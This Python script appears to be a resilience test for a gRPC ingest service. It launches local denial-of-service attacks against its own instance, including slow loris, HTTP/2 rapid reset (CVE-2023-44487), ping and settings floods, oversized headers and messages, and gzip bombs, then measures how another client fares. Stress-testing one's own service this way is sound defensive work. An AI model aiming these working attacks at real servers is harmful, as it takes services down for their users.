"""Attacks a running ingest service in the ways that its doors must stand, and measures how another client fares.

attack_doors.py PROGRAMS STUBS SECONDS: the folder of the programs, that of the Python stubs, and the time of each attack.
The attackers come from 127.0.0.2 and run at the lowest priority, for they would not run on this machine.
"""
import contextlib
import functools
import gzip
import multiprocessing
import os
import pathlib
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time

_CALLS_A_SECOND = 100
_CONNECTIONS = 10_000
_MAX_RATIO = 2.0
# Below this a difference is the scheduler's.
_FLOOR_SECONDS = 0.005
_MAX_GROWTH_BYTES = 256 << 20
_PATH = "/dateline.v1.FeedService/GetFeedInfo"


def frame(kind, flags, stream, payload=b""):
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A header that is in no table (RFC 7541, 6.2.2)."""
    name, value = name.encode(), value.encode()
    return b"\0" + integer(len(name)) + name + integer(len(value)) + value


def integer(value):
    """With a prefix of seven bits (RFC 7541, 5.1)."""
    if value < 127:
        return bytes([value])
    encoded, value = [127], value - 127
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes(encoded + [value])


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def call(stream, *more):
    """The headers of a call."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", _PATH), (":authority", "localhost"), ("te", "trailers"),
               ("content-type", "application/grpc"), *more]
    block = b"".join(literal(name, value) for name, value in headers)
    parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    return b"".join(frame(9 if i else 1, 4 if i == len(parts) - 1 else 0, stream, part) for i, part in enumerate(parts))


def connect(address):
    """A connection from the attackers' address."""
    connection = socket.socket()
    connection.bind(("127.0.0.2", 0))
    connection.settimeout(5)
    connection.connect(address)
    return connection


def attack_connections(address, end):
    """Ten thousand connections that say nothing."""
    held = []
    while time.monotonic() < end:
        if len(held) >= _CONNECTIONS:
            time.sleep(0.1)
            continue
        with contextlib.suppress(OSError):
            held.append(connect(address))


def attack_slow_loris(address, end):
    """A thousand connections that say a byte now and then."""
    held = []
    message = PREFACE + call(1)
    said = 0
    while time.monotonic() < end:
        while len(held) < 1000:
            with contextlib.suppress(OSError):
                held.append(connect(address))
        for connection in held:
            with contextlib.suppress(OSError):
                connection.send(message[said:said + 1])
        said = (said + 1) % len(message)
        time.sleep(0.5)


def flood(address, end, bytes_of_batch):
    """Sends batch after batch, on a new connection when the last one was closed."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            connection = connect(address)
            connection.sendall(PREFACE)
            batch = 0
            while time.monotonic() < end:
                connection.sendall(bytes_of_batch(batch))
                batch += 1
                connection.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    if not connection.recv(1 << 16):
                        break
                connection.settimeout(5)


def attack_rapid_reset(address, end):
    """Calls that are reset as soon as they have begun (CVE-2023-44487)."""
    def batch(number):
        streams = range(200 * number + 1, 200 * (number + 1), 2)
        return b"".join(call(stream) + frame(3, 0, stream, (8).to_bytes(4, "big")) for stream in streams)
    flood(address, end, batch)


def attack_pings(address, end):
    """Nothing but pings."""
    flood(address, end, lambda _: frame(6, 0, 0, b"12345678") * 1000)


def attack_settings(address, end):
    """Nothing but settings, each of which asks for an answer."""
    flood(address, end, lambda _: frame(4, 0, 0, b"\0\4\0\0\xff\xff") * 1000)


def attack_metadata(address, end):
    """Calls with metadata far over the limit."""
    flood(address, end, lambda batch: call(2 * batch + 1, *((f"x-{i}", "y" * 1000) for i in range(60))))


def attack_large_message(address, end):
    """Messages that say that they are two gigabytes long, and go on."""
    chunk = frame(0, 0, 1, b"x" * 16384)

    def batch(number):
        head = call(1) + frame(0, 0, 1, b"\0" + (0x7fffffff).to_bytes(4, "big")) if number == 0 else b""
        return head + chunk * 4
    flood(address, end, batch)


@functools.cache
def packed_zeros():
    """Fifty megabytes in fifty kilobytes, which fit into the window that a new stream has."""
    return gzip.compress(bytes(50 << 20), 9)


def attack_bomb(address, end):
    """Small messages that would unpack to a thousand times as much, each on a connection of its own."""
    message = b"\1" + len(packed_zeros()).to_bytes(4, "big") + packed_zeros()
    parts = [message[i:i + 16384] for i in range(0, len(message), 16384)]
    frames = b"".join(frame(0, 1 if part is parts[-1] else 0, 1, part) for part in parts)
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            connection = connect(address)
            connection.sendall(PREFACE + call(1, ("grpc-encoding", "gzip")) + frames)
            time.sleep(0.2)
            connection.close()


def run_attack(attack, address, seconds):
    """In a process of its own."""
    os.nice(19)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    end = time.monotonic() + seconds
    threads = [threading.Thread(target=attack, args=(address, end), daemon=True) for _ in range(4)] \
        if attack not in (attack_connections, attack_slow_loris) else \
        [threading.Thread(target=attack, args=(address, end), daemon=True)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=seconds + 10)


class Service:
    """A dateline-ingest of its own, with stores in a folder that is removed with it."""

    def __init__(self, programs):
        self.folder = tempfile.TemporaryDirectory()
        # As a limit of open files for twice the connections that it takes.
        self.process = subprocess.Popen(
            [pathlib.Path(programs, "dateline-ingest"), "--listen=127.0.0.1:0", f"--store=sqlite:{self.folder.name}/log"],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        host, port = self.process.stdout.readline().split()[-1].split(":")
        self.address = (host, int(port))

    def resident_bytes(self):
        pages = pathlib.Path(f"/proc/{self.process.pid}/statm").read_text().split()[1]
        return int(pages) * resource.getpagesize()

    def stop(self):
        self.process.terminate()
        code = self.process.wait()
        self.folder.cleanup()
        return code


class Victim:
    """Another client: calls at a steady rate, and how long each took."""

    def __init__(self, address, stubs):
        sys.path.insert(0, stubs)
        import grpc
        from dateline.v1 import feed_service_pb2, feed_service_pb2_grpc
        self.grpc, self.request = grpc, feed_service_pb2.GetFeedInfoRequest()
        self.target = "%s:%d" % address
        self.stub_type = feed_service_pb2_grpc.FeedServiceStub
        self.stub = self.stub_type(grpc.insecure_channel(self.target))

    def measure(self, seconds, service):
        """(99th percentile in seconds, calls that failed, most memory of the service in bytes)"""
        times, failed, most = [], 0, 0
        begin = time.monotonic()
        for number in range(int(seconds * _CALLS_A_SECOND)):
            time.sleep(max(0, begin + number / _CALLS_A_SECOND - time.monotonic()))
            start = time.monotonic()
            try:
                self.stub.GetFeedInfo(self.request, timeout=5)
            except self.grpc.RpcError:
                failed += 1
            times.append(time.monotonic() - start)
            if number % _CALLS_A_SECOND == 0:
                most = max(most, service.resident_bytes())
        return sorted(times)[int(0.99 * len(times))], failed, most

    def newcomer_is_served(self):
        with self.grpc.insecure_channel(self.target, [("grpc.use_local_subchannel_pool", 1)]) as channel:
            self.stub_type(channel).GetFeedInfo(self.request, timeout=5)
        return True


def try_attack(attack, programs, stubs, seconds):
    """What must hold and does not; prints a line."""
    service = Service(programs)
    victim = Victim(service.address, stubs)
    victim.measure(1, service)
    alone, failed_alone, memory = victim.measure(seconds, service)
    attacker = multiprocessing.Process(target=run_attack, args=(attack, service.address, seconds + 2))
    attacker.start()
    time.sleep(1)
    attacked, failed, most = victim.measure(seconds - 1, service)
    served = victim.newcomer_is_served()
    attacker.join()
    problems = []
    if attacked > _MAX_RATIO * max(alone, _FLOOR_SECONDS):
        problems.append(f"99th percentile {attacked / alone:.1f} times")
    if failed or failed_alone or not served:
        problems.append(f"{failed} calls failed")
    if most - memory > _MAX_GROWTH_BYTES:
        problems.append(f"memory grew by {(most - memory) >> 20} MiB")
    if service.process.poll() is not None or service.stop() != 0:
        problems.append("the service did not stand")
    print(f"{attack.__name__[7:]:14} p99 {1e3 * alone:7.2f} ms alone, {1e3 * attacked:7.2f} ms under attack; "
          f"memory +{(most - memory) / (1 << 20):.0f} MiB; {'; '.join(problems) or 'stands'}", flush=True)
    return problems


def main():
    programs, stubs, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    packed_zeros()  # takes seconds, which are not the attack's
    attacks = [value for name, value in globals().items() if name.startswith("attack_")]
    return 1 if any([try_attack(attack, programs, stubs, seconds) for attack in attacks]) else 0


if __name__ == "__main__":
    sys.exit(main())
